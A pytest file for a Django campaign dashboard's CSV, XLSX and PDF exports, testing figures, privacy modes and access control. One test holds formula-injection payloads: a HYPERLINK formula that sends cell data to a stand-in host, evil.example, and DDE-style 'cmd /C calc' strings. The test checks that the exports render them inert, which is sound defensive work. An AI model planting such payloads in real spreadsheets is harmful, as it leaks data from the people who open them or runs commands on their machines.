"""The dashboard's exports: the figures as CSV and XLSX, the steering group's one-page PDF."""

import csv
import io
import re

import pypdfium2
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from audiences.models import Audience
from campaigns.analytics import selectors
from campaigns.analytics import services as analytics
from campaigns.analytics.exports import headline, report_pdf
from campaigns.models import ChangeProject
from campaigns.tests.asset_helpers import make_email, make_employee
from campaigns.tests.dashboard_helpers import answer, deliver, small_launch

pytestmark = pytest.mark.django_db
EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _url(project, fmt):
    return reverse(f"campaigns:dashboard_export_{fmt}", args=[project.slug])


def _stuck_warehouse(project, cast, n=5):
    """n warehouse people who answer with knowledge at 2: the warehouse's barrier."""
    for i in range(n):
        person = make_employee(f"stuck{i}@example.se", first_name=f"S{i}", department="Lager")
        answer(project, person, cast["warehouse"], all=(4, 4, 2, 2, 2))


def _sections(response) -> dict[str, list[list[str]]]:
    """The CSV's sections by title: each a header row and data rows."""
    sections, current = {}, None
    for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))):
        if not row:
            current = None
        elif current is None:
            current = sections.setdefault(row[0], [])
        else:
            current.append(row)
    return sections


def _row(section: list[list[str]], name: str) -> dict[str, str]:
    headers = section[0]
    found = next(row for row in section[1:] if name in row[:2])
    return dict(zip(headers, found, strict=True))


def _pdf_text(pdf: bytes) -> str:
    document = pypdfium2.PdfDocument(pdf)
    return " ".join(page.get_textpage().get_text_range() for page in document)


# The spreadsheets


def test_the_csv_holds_every_table_with_the_known_figures(client, project, owner, viewer):
    cast = small_launch(project, owner, mode="individual")
    _stuck_warehouse(project, cast)
    client.force_login(viewer)

    response = client.get(_url(project, "csv"), **EN)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    sections = _sections(response)
    assert list(sections) == [
        "Summary",
        "Reach",
        "Funnel",
        "Read depth",
        "Readiness",
        "Per asset",
        "Engagement per day",
    ]
    summary = dict(sections["Summary"][1:])
    assert summary["Project"] == project.name
    assert summary["Targeted"] == "10"  # the five of small_launch and five stuck warehouse people
    office = _row(sections["Reach"], "Office")
    assert (office["Targeted"], office["Reached at least once"], office["Reached at least once (%)"]) == (
        "3",
        "2",
        "67",
    )
    assert _row(sections["Reach"], "Västerås")["Group"] == "Site"
    funnel = _row(sections["Funnel"], "Office")
    assert funnel["Email delivered"] == "2" and funnel["Opened an email"] == "1"
    assert funnel["Email delivered (%)"] == "67" and "Targeted (%)" not in funnel
    warehouse = _row(sections["Readiness"], "Warehouse")
    assert warehouse["Knowledge: average (1–5)"] == "2.0" and warehouse["Knowledge: answers"] == "5"
    assert warehouse["Barrier"] == "Knowledge"
    assert warehouse["Recommended next step"] == "A how-to handout or film"
    teaser = _row(sections["Per asset"], "Teaser")
    assert (teaser["Delivered"], teaser["Failed"], teaser["Opens (counted)"], teaser["People who opened"]) == (
        "2",
        "1",
        "8",
        "1",
    )
    assert len(sections["Engagement per day"]) == 1 + 42


def test_the_xlsx_has_one_sheet_per_table_with_numbers_as_numbers(client, project, owner, viewer):
    small_launch(project, owner, mode="anonymous")
    client.force_login(viewer)

    response = client.get(_url(project, "xlsx"), **EN)

    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [
        "Summary",
        "Reach",
        "Funnel",
        "Read depth",
        "Readiness",
        "Per asset",
        "Engagement per day",
    ]
    reach = list(book["Reach"].iter_rows(values_only=True))
    office = next(row for row in reach if row[1] == "Office")
    assert office[2:5] == (3, 2, 67)


def test_the_file_name_is_safe_and_says_what_it_is(client, project, viewer):
    ChangeProject.objects.filter(pk=project.pk).update(name='Ny "tid"/rapport; å')
    client.force_login(viewer)

    disposition = client.get(_url(project, "xlsx"), **EN)["Content-Disposition"]

    assert disposition.startswith("attachment;")
    assert "ny-tidrapport-a-figures-" in disposition and disposition.endswith('.xlsx"')
    assert "/" not in disposition.split("filename=")[1] and ";" not in disposition.split("filename=")[1]


def test_a_hostile_audience_name_comes_out_inert(client, project, owner, viewer):
    cast = small_launch(project, owner, mode="anonymous")
    Audience.objects.filter(pk=cast["office"].pk).update(name=HOSTILE)
    for prefix in "+-@":
        Audience.objects.create(project=project, name=f"{prefix}cmd|' /C calc'!A0", kind=Audience.Kind.LIST)
    client.force_login(viewer)

    text = client.get(_url(project, "csv"), **EN).content.decode("utf-8-sig")
    book = load_workbook(io.BytesIO(client.get(_url(project, "xlsx"), **EN).content))

    values = [v for row in csv.reader(io.StringIO(text)) for v in row]
    values += [v for sheet in book for row in sheet.iter_rows(values_only=True) for v in row]
    assert "'" + HOSTILE in values
    assert not any(isinstance(v, str) and v[:1] in ("=", "+", "-", "@") for v in values)
    assert any(isinstance(v, str) and v.startswith("'+cmd") for v in values)


def test_aggregate_mode_exports_no_audience_or_site_rows(client, project, owner, viewer):
    cast = small_launch(project, owner, mode="aggregate")
    _stuck_warehouse(project, cast)
    client.force_login(viewer)

    response = client.get(_url(project, "csv"), **EN)

    text = response.content.decode("utf-8-sig")
    assert "Office" not in text and "Warehouse" not in text and "Luleå" not in text and "Västerås" not in text
    sections = _sections(response)
    assert [row[0] for row in sections["Reach"][1:]] == ["Everyone"]
    assert [row[0] for row in sections["Funnel"][1:]] == ["Everyone targeted"]
    assert [row[0] for row in sections["Readiness"][1:]] == ["All answers"]


def test_anonymous_mode_exports_no_person_data(client, project, owner, viewer):
    cast = small_launch(project, owner, mode="anonymous")
    client.force_login(viewer)

    response = client.get(_url(project, "csv"), **EN)

    text = response.content.decode("utf-8-sig")
    for person in cast["people"].values():
        assert person.email not in text and person.first_name not in text.split(",")
    teaser = _row(_sections(response)["Per asset"], "Teaser")
    assert teaser["People who opened"] == "" and teaser["People who clicked"] == "" and teaser["Open rate (%)"] == ""


def test_hidden_cells_never_leak_their_value_or_count(client, project, owner, viewer):
    cast = small_launch(project, owner, mode="anonymous")
    _stuck_warehouse(project, cast, n=4)  # four answers: below five
    client.force_login(viewer)

    csv_response = client.get(_url(project, "csv"), **EN)
    book = load_workbook(io.BytesIO(client.get(_url(project, "xlsx"), **EN).content))

    warehouse = _row(_sections(csv_response)["Readiness"], "Warehouse")
    cells = [v for k, v in warehouse.items() if k not in ("Audience", "Barrier", "Recommended next step")]
    assert set(cells) == {"fewer than 5 answers"}
    assert warehouse["Barrier"] == "" and warehouse["Recommended next step"] == ""
    sheet = list(book["Readiness"].iter_rows(values_only=True))
    row = next(r for r in sheet if r[0] == "Warehouse")
    assert set(row[1:11]) == {"fewer than 5 answers"}


def test_the_csv_query_count_does_not_grow_with_recipients(client, project, owner, viewer):
    project.refresh_from_db()
    client.force_login(viewer)
    people = [make_employee(f"p{i}@example.se", first_name=f"P{i}", site=("A", "B")[i % 2]) for i in range(10)]
    audience = Audience.objects.create(project=project, name="Alla", kind=Audience.Kind.LIST)
    audience.members.add(*people)
    email = make_email(project, owner, title="One")
    for person in people:
        deliver(email, person, opened=True)
    analytics.analytics_refresh(project=project)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(_url(project, "csv")).status_code == 200
        return len(captured)

    small = queries()
    more = [make_employee(f"more{i}@example.se", first_name=f"M{i}", site=f"S{i % 7}") for i in range(190)]
    audience.members.add(*more)
    for person in more:
        deliver(email, person)
    analytics.analytics_refresh(project=project)
    big = queries()

    assert selectors.dashboard(project=project).overall.reach.targeted == 200
    # session, user, membership and project, then the dashboard's reads: refresh state, figures,
    # audiences, assets, days, two for questions
    assert small == big == 10


# The steering group's PDF


def test_the_pdf_is_one_page_with_the_headline(client, project, owner, viewer):
    cast = small_launch(project, owner, mode="anonymous")
    _stuck_warehouse(project, cast)
    client.force_login(viewer)

    response = client.get(_url(project, "pdf"), **EN)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].endswith('.pdf"')
    document = pypdfium2.PdfDocument(response.content)
    assert len(document) == 1
    width, height = document[0].get_size()
    assert height > width  # A4 portrait
    text = " ".join(_pdf_text(response.content).split())
    assert "80 % of the 10 targeted employees reached at least once" in text
    assert "Warehouse is held back at knowledge" in text
    assert "A how-to handout or film" in text


def test_the_headline_says_where_people_are_stuck(project, owner):
    cast = small_launch(project, owner, mode="anonymous")
    _stuck_warehouse(project, cast)
    analytics.analytics_refresh(project=project)
    with translation.override("en"):
        sentence = headline(selectors.dashboard(project=project))
    assert sentence == "80 % of the 10 targeted employees reached at least once; Warehouse is held back at knowledge."


def test_the_pdf_stays_one_page_with_many_audiences_and_long_names(project, owner):
    project.lede = ("Lång ingress. " * 25)[:300]
    project.name = "Ett mycket långt projektnamn som fortsätter och fortsätter utan slut i sikte"
    project.save()
    cast = small_launch(project, owner, mode="anonymous")
    _stuck_warehouse(project, cast)
    for i in range(30):
        Audience.objects.create(project=project, name=f"Målgrupp {i} " + "med ett långt namn " * 4)
    for i in range(12):
        make_email(project, owner, title=f"Ett mejl med en lång rubrik nummer {i} " * 3)
    analytics.analytics_refresh(project=project)

    with translation.override("en"):
        pdf = report_pdf(board=selectors.dashboard(project=project))

    assert len(pypdfium2.PdfDocument(pdf)) == 1
    text = " ".join(_pdf_text(pdf).split())
    assert "smaller audiences" in text and "more audiences – every audience is in the spreadsheet export" in text


def test_the_pdf_never_shows_a_hidden_cell(project, owner):
    cast = small_launch(project, owner, mode="anonymous")
    for i in range(3):  # with bo's, four answers in all: below five everywhere
        person = make_employee(f"few{i}@example.se", first_name=f"F{i}", department="Lager")
        answer(project, person, cast["warehouse"], all=(1, 1, 1, 1, 1))
    analytics.analytics_refresh(project=project)

    with translation.override("en"):
        text = " ".join(_pdf_text(report_pdf(board=selectors.dashboard(project=project))).split())

    assert text.count("fewer than 5 answers") == 3 * 5
    assert not re.search(r"\b[1-5]\.[0-9]\b", text)
    assert "held back" not in text and "too few pulse answers yet" in text


def test_the_pdf_in_aggregate_mode_names_no_audience(project, owner):
    small_launch(project, owner, mode="aggregate")
    analytics.analytics_refresh(project=project)

    with translation.override("en"):
        text = _pdf_text(report_pdf(board=selectors.dashboard(project=project)))

    assert "Office" not in text and "Warehouse" not in text and "Luleå" not in text
    assert "Aggregate tracking" in text


# Who may export


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "pdf"])
def test_a_viewer_may_export(client, project, viewer, fmt):
    client.force_login(viewer)
    assert client.get(_url(project, fmt)).status_code == 200


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "pdf"])
def test_an_outsider_gets_a_404(client, project, outsider, fmt):
    client.force_login(outsider)
    assert client.get(_url(project, fmt)).status_code == 404


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "pdf"])
def test_exports_are_get_only(client, project, viewer, fmt):
    client.force_login(viewer)
    assert client.post(_url(project, fmt)).status_code == 405


def test_the_dashboard_offers_the_exports(client, project, viewer):
    client.force_login(viewer)
    html = client.get(reverse("campaigns:dashboard", args=[project.slug]), **EN).content.decode()
    for fmt in ("csv", "xlsx", "pdf"):
        assert _url(project, fmt) in html


def test_the_pdf_carries_the_projects_logo(project, owner, settings, tmp_path):
    from campaigns.tests.asset_helpers import make_image

    settings.MEDIA_ROOT = tmp_path
    small_launch(project, owner, mode="anonymous")
    analytics.analytics_refresh(project=project)
    without = report_pdf(board=selectors.dashboard(project=project))
    project.logo = make_image(project, owner, alt="Logo")
    project.save()

    with_logo = report_pdf(board=selectors.dashboard(project=project))

    def images(pdf: bytes) -> int:
        page = pypdfium2.PdfDocument(pdf)[0]
        return sum(1 for obj in page.get_objects() if obj.type == pypdfium2.raw.FPDF_PAGEOBJ_IMAGE)

    assert images(with_logo) == images(without) + 1
